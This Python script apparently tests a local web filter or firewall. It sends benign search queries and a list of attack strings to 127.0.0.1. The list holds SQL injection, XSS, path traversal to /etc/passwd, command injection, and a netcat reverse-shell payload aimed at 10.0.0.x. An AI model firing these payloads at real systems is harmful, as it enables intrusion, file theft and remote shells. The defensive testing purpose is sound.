"""Sends a fixed set of benign and attack requests to 127.0.0.1:PORT, one keep-alive connection,
prints 'index status target' per request."""
import json, socket, sys
port = int(sys.argv[1])
reqs = []
words = ["pizza", "weather", "python tutorial", "cheap flights", "news today", "recipe pasta", "O'Reilly books",
         "Tom & Jerry", "1 < 2 and 3 > 2", "select the best and drop the rest", "see ../docs for details"]
for i in range(120):
    w = words[i % len(words)]
    reqs.append(("GET", "/search?q=%s+%d" % (w.replace(" ", "+").replace("&", "%26").replace("<", "%3C").replace(">", "%3E"), i), None))
attacks = ["1 UNION SELECT username,password FROM users--", "<script>alert(%d)</script>", "../../../../etc/passwd",
           "; cat /etc/passwd", "1' OR '1'='1' --", "<img src=x onerror=alert(%d)>", "| nc -e /bin/sh 10.0.0.%d 4444",
           "' AND SLEEP(5)--", "{{7*7}}", "....//....//etc/hosts"]
from urllib.parse import quote
for i in range(120):
    a = attacks[i % len(attacks)]
    a = a % i if "%d" in a else a + ("" if i < 10 else " ")
    if i % 3 == 0:
        reqs.append(("GET", "/item?id=" + quote(a) + "&n=%d" % i, None))
    elif i % 3 == 1:
        reqs.append(("POST", "/api/%d" % i, json.dumps({"user": {"comment": a, "n": i}})))
    else:
        reqs.append(("POST", "/form/%d" % i, "title=hello&comment=" + quote(a)))
s = None
buf = b""
def conn():
    return socket.create_connection(("127.0.0.1", port), timeout=10)
for idx, (m, t, body) in enumerate(reqs):
    if s is None:
        s = conn(); buf = b""
    h = "%s %s HTTP/1.1\r\nHost: t\r\nUser-Agent: Mozilla/5.0 test\r\n" % (m, t)
    if body is not None:
        ct = "application/json" if body.startswith("{") else "application/x-www-form-urlencoded"
        h += "Content-Type: %s\r\nContent-Length: %d\r\n" % (ct, len(body.encode()))
    s.sendall((h + "\r\n").encode() + (body.encode() if body else b""))
    while b"\r\n\r\n" not in buf:
        d = s.recv(65536)
        if not d: break
        buf += d
    head, _, rest = buf.partition(b"\r\n\r\n")
    status = int(head.split(b" ")[1])
    cl = 0
    for ln in head.split(b"\r\n")[1:]:
        k, _, v = ln.partition(b":")
        if k.strip().lower() == b"content-length": cl = int(v)
    while len(rest) < cl:
        rest += s.recv(65536)
    buf = rest[cl:]
    if b"connection: close" in head.lower():
        s.close(); s = None
    print(idx, status, t)
